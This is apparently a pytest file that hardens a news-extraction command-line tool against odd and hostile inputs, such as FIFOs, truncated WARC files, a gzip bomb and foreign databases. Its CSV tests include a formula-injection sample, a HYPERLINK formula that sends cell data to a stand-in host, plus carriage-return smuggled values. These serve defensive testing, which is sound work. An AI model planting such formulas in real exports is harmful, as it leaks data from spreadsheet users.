"""Issue 14, row by row: no single input may stop a run, hang it, or reach a spreadsheet as code.
Every case uses the issue's own reproduction (files written by the test, invented text)."""

from __future__ import annotations

import gzip
import json
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from typer.testing import CliRunner

from extractor.cli import _register, app
from extractor.contract import ExchangeRecord, Flow
from extractor.pipeline import Extractor
from extractor.reading import ReadOptions, read_inputs
from extractor.reading.items import ArticleItem, ErrorItem, SkippedItem
from fakes import patch_pipeline

ROOT = Path(__file__).resolve().parents[1]
MARK = "SWAPMARK"
GOOD = {"id": "good", "text": f"Chile and Peru exchanged 12 prisoners. {MARK}", "published": "2024-03-02"}

_register()


def fake_extract(self: Extractor, article) -> list:
    if MARK not in article.full_text:
        return []
    flow = Flow.model_validate({"from": "RUS", "to": "UKR", "category": "pows",
                                "count": {"value": 12, "min": 12, "max": 12, "qualifier": "exact"}})
    return [ExchangeRecord(doc_id=article.id, claim_id=f"{article.id}#1", status="completed", flows=(flow,),
                           outlet=article.outlet, url=article.url)]


@pytest.fixture(autouse=True)
def fake_pipeline(monkeypatch: pytest.MonkeyPatch) -> None:
    patch_pipeline(monkeypatch, fake_extract)


def invoke(*args: object, input: bytes | str | None = None):
    return CliRunner().invoke(app, [str(a) for a in args], input=input)


def lines(path: Path) -> list[dict]:
    data = path.read_bytes()
    if data[:2] == b"\x1f\x8b":
        data = gzip.decompress(data)
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


def statuses(path: Path) -> list[tuple[str, str, str | None]]:
    return [(r["doc_id"], r["status"], (r.get("error") or {}).get("code"))
            for r in lines(path) if r["type"] == "article"]


def notes(path: Path) -> str:
    return " ".join(r.get("note") or "" for r in lines(path) if r["type"] == "article")


def jl(*rows: object) -> str:
    return "".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in rows)


# row 1: an integer of more than 4,300 digits

def test_row1_huge_integer_is_one_error_line(tmp_path: Path) -> None:
    src = tmp_path / "h.jsonl"
    src.write_text(jl('{"id":"a","text":"x","n":' + "9" * 5000 + "}", GOOD))
    out = tmp_path / "o.jsonl"
    result = invoke("extract", src, "-o", out)
    assert result.exit_code == 0, result.output
    assert statuses(out) == [("", "error", "E001"), ("good", "ok", None)]
    again = invoke("extract", src, "-o", out, "--force")  # a rerun does not die at the same line
    assert again.exit_code == 0


def test_row1_huge_integer_in_reconcile_is_coded(tmp_path: Path) -> None:
    claims = tmp_path / "c.jsonl"
    claims.write_text('{"type":"exchange","n":' + "9" * 5000 + "}\n")
    result = invoke("reconcile", claims, "-o", tmp_path / "ev.jsonl")
    assert result.exit_code == 2
    assert "E301" in result.output and "Traceback" not in result.output


# row 2: a file name that is not UTF-8

@pytest.mark.skipif(sys.platform == "darwin", reason="macOS file systems refuse non-UTF-8 names")
def test_row2_non_utf8_file_name(tmp_path: Path) -> None:
    folder = tmp_path / "nd"
    folder.mkdir()
    name = os.fsdecode(b"caf\xe9.txt")
    (folder / name).write_text(f"Russia and Ukraine exchanged 90 prisoners. {MARK}")
    (folder / "plain.txt").write_text(f"Chile and Peru exchanged 2 prisoners. {MARK}")
    out = tmp_path / "o.jsonl"
    result = invoke("extract", folder, "-o", out)
    assert result.exit_code == 0, result.output
    rows = statuses(out)
    assert ("caf\\xe9", "ok", None) in rows and ("plain", "ok", None) in rows
    sources = [r["source"] for r in lines(out) if r["type"] == "article"]
    assert any(source.endswith("caf\\xe9.txt") for source in sources)


# row 3: input from a pipe

def test_row3_stdin_and_pipe_are_read(tmp_path: Path) -> None:
    data = jl(GOOD, {"id": "b", "text": "Nothing here."})
    out = tmp_path / "o.jsonl"
    result = invoke("extract", "-", "-o", out, input=data)
    assert result.exit_code == 0, result.output
    assert statuses(out) == [("good", "ok", None), ("b", "no_events", None)]
    piped = subprocess.run(
        [sys.executable, "-m", "extractor", "extract", "--format", "jsonl", "/dev/stdin", "-o", str(tmp_path / "p.jsonl"),
         "-q"], input=data.encode(), capture_output=True, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
    assert piped.returncode == 0, piped.stderr
    assert [r["doc_id"] for r in lines(tmp_path / "p.jsonl") if r["type"] == "article"] == ["good", "b"]


def test_row3_gzipped_stdin(tmp_path: Path) -> None:
    out = tmp_path / "o.jsonl"
    result = invoke("extract", "-", "-o", out, input=gzip.compress(jl(GOOD).encode(), mtime=0))
    assert result.exit_code == 0, result.output
    assert statuses(out) == [("good", "ok", None)]


# row 4: a FIFO in an input folder, an input linked to /dev/zero

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_row4_fifo_in_folder_is_skipped_not_waited_for(tmp_path: Path) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "a.txt").write_text(f"Chile and Peru exchanged 12 prisoners. {MARK}")
    os.mkfifo(folder / "whatever")
    os.mkfifo(folder / "b.txt")
    os.mkfifo(folder / "c.jsonl")
    (folder / "z.jsonl").symlink_to("/dev/zero")
    out = tmp_path / "o.jsonl"
    done: list = []
    thread = threading.Thread(target=lambda: done.append(invoke("extract", folder, "-o", out)), daemon=True)
    thread.start()
    thread.join(60)
    assert done, "the run hung on a FIFO or /dev/zero"
    assert done[0].exit_code == 0, done[0].output
    rows = statuses(out)
    assert ("a", "ok", None) in rows
    assert ("b", "skipped", None) in rows and ("c.jsonl", "skipped", None) in rows and ("z.jsonl", "skipped", None) in rows
    assert notes(out).count("E018") == 2 and notes(out).count("E015") == 1  # /dev/zero is outside the folder


def test_row4_named_device_input_is_skipped(tmp_path: Path) -> None:
    link = tmp_path / "x.jsonl"
    link.symlink_to("/dev/zero")
    good = tmp_path / "y.jsonl"
    good.write_text(jl(GOOD))
    out = tmp_path / "o.jsonl"
    result = invoke("extract", link, good, "-o", out)
    assert result.exit_code == 0, result.output
    assert statuses(out) == [("x.jsonl", "skipped", None), ("good", "ok", None)]
    assert "E018" in notes(out)


# every reader error becomes a coded line

def test_a_reader_crash_ends_that_input_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import extractor.reading.dispatch as dispatch

    def broken(path, *, options, gz=False):
        yield from ()
        raise AttributeError("'NoneType' object has no attribute 'x'")

    monkeypatch.setattr(dispatch, "read_csv", broken)
    (tmp_path / "a.csv").write_text("id,text\n1,x\n")
    (tmp_path / "b.jsonl").write_text(jl(GOOD))
    items = list(read_inputs([tmp_path / "a.csv", tmp_path / "b.jsonl"], options=ReadOptions()))
    assert isinstance(items[0], ErrorItem) and items[0].code == "E021" and "AttributeError" in items[0].message
    assert isinstance(items[1], ArticleItem)


# row 9: outputs only as regular files

@pytest.mark.parametrize("kind", ["symlink", "fifo", "chardev-link"])
def test_row9_output_never_replaces_a_node(tmp_path: Path, kind: str) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    target = tmp_path / "target.txt"
    target.write_text("keep me")
    out = tmp_path / "mynull"
    if kind == "symlink":
        out.symlink_to(target)
    elif kind == "fifo":
        os.mkfifo(out)
    else:
        out.symlink_to("/dev/null")
    before = os.lstat(out)
    result = invoke("extract", src, "-o", out, "--force")
    assert result.exit_code == 2
    assert "E209" in result.output
    after = os.lstat(out)
    assert (before.st_mode, before.st_ino) == (after.st_mode, after.st_ino)
    assert target.read_text() == "keep me"


def test_row9_device_node_itself(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    result = invoke("extract", src, "-o", "/dev/null", "--force")
    assert result.exit_code == 2 and "E209" in result.output
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


# issue 10 item 5: modes follow the umask, `-` and .gz everywhere

def test_modes_follow_the_umask(tmp_path: Path) -> None:
    from extractor.outputs import atomic_writer

    old = os.umask(0o027)
    try:
        with atomic_writer(tmp_path / "a.csv") as fh:
            fh.write("x\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "a.csv").st_mode) == 0o640
    old = os.umask(0o022)
    try:
        with atomic_writer(tmp_path / "b.csv") as fh:
            fh.write("x\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "b.csv").st_mode) == 0o644


def test_gz_output_and_gz_claims_into_reconcile(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    claims = tmp_path / "claims.jsonl.gz"
    result = invoke("extract", src, "-o", claims)
    assert result.exit_code == 0, result.output
    assert claims.read_bytes()[:2] == b"\x1f\x8b"
    assert statuses(claims) == [("good", "ok", None)]
    events = tmp_path / "ev.jsonl.gz"
    result = invoke("reconcile", claims, "-o", events)
    assert result.exit_code == 0, result.output
    assert len(lines(events)) == 1


def test_stdout_output(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    result = invoke("extract", src, "-o", "-", "-q")
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["type"] for r in rows] == ["exchange", "article"]
    assert not (Path.cwd() / "-").exists()
    assert not list(tmp_path.glob("*.parts"))


def test_reconcile_reads_stdin(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    claims = tmp_path / "c.jsonl"
    assert invoke("extract", src, "-o", claims).exit_code == 0
    result = invoke("reconcile", "-", "-o", "-", "-q", input=claims.read_bytes())
    assert result.exit_code == 0, result.output
    assert len(result.stdout.splitlines()) == 1


# row 12: earlier output inside an input folder, temp files, lock

def test_row12_output_inside_input_folder_is_not_read_back(tmp_path: Path) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "a.jsonl").write_text(jl(GOOD))
    out = folder / "out.jsonl"
    assert invoke("extract", folder, "-o", out).exit_code == 0
    first = out.read_bytes()
    result = invoke("extract", folder, "-o", out, "--force")
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == first


def test_row12_temp_files_removed_on_force_and_resume(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    out = tmp_path / "o.jsonl"
    stale = tmp_path / ".o.jsonl.abc123.tmp"
    stale.write_bytes(b"x" * 1000)
    parts = tmp_path / "o.jsonl.parts"
    assert invoke("extract", src, "-o", out, "--keep-parts").exit_code == 0
    part_tmp = parts / ".part-000000.jsonl.zz.tmp"
    part_tmp.write_bytes(b"y" * 1000)
    assert not stale.exists()
    assert invoke("extract", src, "-o", out, "--force", "--keep-parts").exit_code == 0
    assert not part_tmp.exists()


def test_row12_one_run_per_output(tmp_path: Path) -> None:
    from extractor.errors import CodedError
    from extractor.running.lock import output_lock

    out = tmp_path / "o.jsonl"
    with output_lock(out):
        src = tmp_path / "a.jsonl"
        src.write_text(jl(GOOD))
        result = invoke("extract", src, "-o", out)
        assert result.exit_code == 2 and "E210" in result.output
        with pytest.raises(CodedError):
            with output_lock(out):
                pass
    assert not (tmp_path / ".o.jsonl.lock").exists()


def test_row12_damaged_part_is_redone(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    out = tmp_path / "o.jsonl"
    assert invoke("extract", src, "-o", out, "--keep-parts").exit_code == 0
    good = out.read_bytes()
    part = tmp_path / "o.jsonl.parts" / "part-000000.jsonl"
    data = bytearray(part.read_bytes())
    data[5] = ord("X") if data[5] != ord("X") else ord("Y")  # same size, other bytes
    part.write_bytes(bytes(data))
    assert invoke("extract", src, "-o", out, "--force").exit_code == 0
    assert out.read_bytes() == good


# row 8: CSV cells neutralised and quoted

def test_row8_csv_export_formula_and_bare_cr(tmp_path: Path) -> None:
    import csv

    src = tmp_path / "a.jsonl"
    src.write_text(jl(
        {"id": "f1", "text": f"Chile and Peru exchanged 12 prisoners. {MARK}", "published": "2024-03-02",
         "outlet": '=HYPERLINK("http://x.example/?"&A1,"click")', "url": "https://a.example/1"},
        {"id": "f2", "text": f"Chile and Peru exchanged 12 prisoners. {MARK}", "published": "2024-03-02",
         "outlet": "@Daily", "url": "https://b.example/2\r=1+2,forged"}))
    claims, store, out = tmp_path / "c.jsonl", tmp_path / "s.sqlite", tmp_path / "events.csv"
    assert invoke("extract", src, "-o", claims).exit_code == 0
    assert invoke("reconcile", claims, "--store", store, "-o", tmp_path / "ev.jsonl").exit_code == 0
    result = invoke("export", store, "--format", "csv", "-o", out)
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1  # the CR did not split the row
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert "'=HYPERLINK(" in rows[0]["sources"] or rows[0]["sources"].startswith("'")
    assert "\r=1+2,forged" in rows[0]["source_urls"]


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("a\rb", '"a\rb"'), ('say "hi"', '"say ""hi"""'), ("a,b", '"a,b"'), ("plain", "plain"), (None, ""),
    (-5, "-5"), (3, "3"), ("\r=cmd", "\"'\r=cmd\""),
])
def test_row8_csv_cell(value: object, cell: str) -> None:
    from extractor.exporting.cells import csv_cell

    assert csv_cell(value) == cell


# rows 6 and 7: WARC files

def _warc(path: Path, *, gz: bool) -> list[int]:
    """A warcinfo record and three HTML responses; the byte offset where each record ends."""
    import io

    pytest.importorskip("warcio")
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    ends = []
    with path.open("wb") as fh:
        writer = WARCWriter(fh, gzip=gz)
        writer.write_record(writer.create_warcinfo_record(path.name, {"software": "tests"}))
        ends.append(fh.tell())
        for n in range(3):
            body = f"<html><head><title>Town{n}</title></head><body><p>Prisoners were exchanged in Town{n}.</p></body></html>"
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.0")
            writer.write_record(writer.create_warc_record(f"https://t.example/{n}", "response",
                                                          payload=io.BytesIO(body.encode()), http_headers=headers))
            ends.append(fh.tell())
    return ends


@pytest.mark.parametrize("gz", [False, True])
def test_row7_warc_cut_at_every_byte(tmp_path: Path, gz: bool) -> None:
    """Cut anywhere: never an exception, and every response the cut reaches into is either read or
    reported (E405); only a cut in a record's closing line breaks (or gzip trailer), with its
    content whole, reads the record silently."""
    full = tmp_path / ("full.warc.gz" if gz else "full.warc")
    ends = _warc(full, gz=gz)
    data = full.read_bytes()
    cut = tmp_path / ("cut.warc.gz" if gz else "cut.warc")
    silent = []
    for n in range(1, len(data)):
        cut.write_bytes(data[:n])
        items = list(read_inputs([cut], options=ReadOptions()))
        read = sum(isinstance(i, ArticleItem) for i in items)
        errors = [i for i in items if isinstance(i, ErrorItem)]
        assert all(e.code == "E405" for e in errors), (n, errors)
        whole = sum(1 for end in ends[1:] if end <= n)
        started = sum(1 for end in ends[:-1] if end < n)  # responses the cut reaches into
        if errors:
            assert read <= started
            continue
        if n not in ends:
            silent.append(n)
            assert read >= started or read == whole + (1 if started > whole else 0), n
    closing = 12 if gz else 4  # bytes after the content: CRLF CRLF, or the gzip member's trailer
    assert all(any(0 < end - n <= closing + 8 for end in ends) for n in silent), silent


def test_row6_warc_gz_bomb_is_stopped(tmp_path: Path) -> None:
    import zlib

    line = b"WARC/1.0\r\nWARC-Type: warcinfo\r\nX-Pad: " + b" " * (24 * 1024 * 1024)
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    path = tmp_path / "bomb.warc.gz"
    path.write_bytes(comp.compress(line) + comp.flush())
    options = ReadOptions(gzip_ratio_floor=1024 * 1024, max_gzip_ratio=200)
    items = list(read_inputs([path], options=options))
    assert [i.code for i in items if isinstance(i, ErrorItem)] == ["E012"]


# row 10: store readers open read-only and never write into a foreign file

def _store(tmp_path: Path) -> Path:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    claims, store = tmp_path / "c.jsonl", tmp_path / "s.sqlite"
    assert invoke("extract", src, "-o", claims).exit_code == 0
    assert invoke("reconcile", claims, "--store", store, "-o", tmp_path / "ev.jsonl").exit_code == 0
    return store


def test_row10_export_reads_while_a_writer_holds_the_lock(tmp_path: Path) -> None:
    import sqlite3

    store = _store(tmp_path)
    writer = sqlite3.connect(store, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")  # what a long reconcile holds
    try:
        from extractor.storing import EventStore

        with EventStore(store, create=False) as st:
            assert len(list(st.events())) == 1
        result = invoke("export", store, "--format", "csv", "-o", tmp_path / "e.csv")
        assert result.exit_code == 0, result.output
    finally:
        writer.execute("ROLLBACK")
        writer.close()


def test_row10_a_foreign_database_is_never_written(tmp_path: Path) -> None:
    import hashlib
    import sqlite3

    foreign = tmp_path / "theirs.sqlite"
    db = sqlite3.connect(foreign)
    db.execute("CREATE TABLE meta (key TEXT, value TEXT)")
    db.execute("INSERT INTO meta VALUES ('owner', 'someone else')")
    db.commit()
    db.close()
    before = hashlib.sha256(foreign.read_bytes()).hexdigest()
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    claims = tmp_path / "c.jsonl"
    assert invoke("extract", src, "-o", claims).exit_code == 0
    result = invoke("reconcile", claims, "--store", foreign, "-o", tmp_path / "ev.jsonl")
    assert result.exit_code == 2 and "E304" in result.output
    result = invoke("export", foreign, "-o", tmp_path / "e.jsonl")
    assert result.exit_code == 2 and "E304" in result.output
    assert hashlib.sha256(foreign.read_bytes()).hexdigest() == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("theirs")) == ["theirs.sqlite"]


# row 12: reconcile checks --output before it changes the store

def test_row12_reconcile_checks_output_before_the_store(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    claims, store = tmp_path / "c.jsonl", tmp_path / "new.sqlite"
    assert invoke("extract", src, "-o", claims).exit_code == 0
    result = invoke("reconcile", claims, "--store", store, "-o", tmp_path / "missing" / "ev.jsonl")
    assert result.exit_code == 2 and "E204" in result.output
    assert not store.exists()
    result = invoke("reconcile", claims, "--store", store, "-o", store)
    assert result.exit_code == 2 and "E203" in result.output
    assert not store.exists()


# row 13: every failure coded

def test_row13_output_folder_with_force(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    (tmp_path / "dir").mkdir()
    result = invoke("extract", src, "-o", tmp_path / "dir", "--force")
    assert result.exit_code == 2 and "E204" in result.output and "Traceback" not in result.output


@pytest.mark.skipif(os.geteuid() == 0 if hasattr(os, "geteuid") else True, reason="root writes anywhere")
def test_row13_read_only_parent(tmp_path: Path) -> None:
    src = tmp_path / "a.jsonl"
    src.write_text(jl(GOOD))
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        result = invoke("extract", src, "-o", ro / "o.jsonl")
        assert result.exit_code == 2 and "E204" in result.output
    finally:
        ro.chmod(0o755)


def test_row13_disk_full_is_coded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from extractor import outputs
    from extractor.errors import CodedError

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(outputs.os, "fsync", full)
    with pytest.raises(CodedError) as err:
        with outputs.atomic_writer(tmp_path / "o.jsonl") as fh:
            fh.write("x\n")
    assert err.value.code == "E204" and "No space left" in str(err.value)
    assert list(tmp_path.iterdir()) == []  # no temporary file left behind


def test_row13_semicolon_csv_gets_the_right_hint(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("id;text;published\n1;Swap;2024-01-02\n")
    (item,) = list(read_inputs([path], options=ReadOptions()))
    assert isinstance(item, ErrorItem) and item.code == "E019" and "';'" in item.message


def _run_folder(tmp_path: Path) -> tuple[Path, Path]:
    src = tmp_path / "in.jsonl"
    src.write_text(jl(GOOD, {"id": "b", "text": "Nothing."}))
    return src, tmp_path / "out"


def test_row13_run_again_after_success_exits_0(tmp_path: Path) -> None:
    src, out = _run_folder(tmp_path)
    assert invoke("run", src, "-o", out).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    again = invoke("run", src, "-o", out)
    assert again.exit_code == 0, again.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_row13_run_retry_failed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []

    def flaky(self, article):
        calls.append(article.id)
        if article.id == "good" and calls.count("good") == 1:
            raise RuntimeError("transient")
        return fake_extract(self, article)

    patch_pipeline(monkeypatch, flaky)
    src, out = _run_folder(tmp_path)
    assert invoke("run", src, "-o", out).exit_code == 0
    assert ("good", "error", "E102") in statuses(out / "claims.jsonl")
    result = invoke("run", src, "-o", out, "--retry-failed")
    assert result.exit_code == 0, result.output
    assert ("good", "ok", None) in statuses(out / "claims.jsonl")
    assert len(lines(out / "events.jsonl")) == 1


def test_row12_two_runs_into_one_folder(tmp_path: Path) -> None:
    from extractor.running.lock import folder_lock

    src, out = _run_folder(tmp_path)
    out.mkdir()
    with folder_lock(out):
        result = invoke("run", src, "-o", out)
    assert result.exit_code == 2 and "E210" in result.output


# row 11: the driver holds a bounded amount of article text

def test_row11_queued_text_is_bounded() -> None:
    from extractor.contract import Article
    from extractor.running.articles import Pending
    from extractor.running.parallel import QUEUED_CHARS, PoolEngine, task_chars
    from extractor.running.tasks import ShardTask

    big = Pending(article=Article(id="x", text="w" * 300_000), source="s")
    task = ShardTask(index=0, entries=[big] * 200)
    assert task_chars(task) == 60_000_000
    engine = object.__new__(PoolEngine)
    engine.capacity, engine._futures, engine._waiting = 34, {}, __import__("collections").deque([task, task])
    engine._chars = {0: task_chars(task), 1: task_chars(task)}
    assert engine.full and 2 * 60_000_000 > QUEUED_CHARS
    engine._chars = {0: 10}
    assert not engine.full


def test_export_to_stdout_and_gz(tmp_path: Path) -> None:
    store = _store(tmp_path)
    result = invoke("export", store, "--format", "csv", "-o", "-", "-q")
    assert result.exit_code == 0 and result.stdout.startswith("event_id,")
    assert invoke("export", store, "-o", tmp_path / "e.jsonl.gz").exit_code == 0
    assert len(lines(tmp_path / "e.jsonl.gz")) == 1
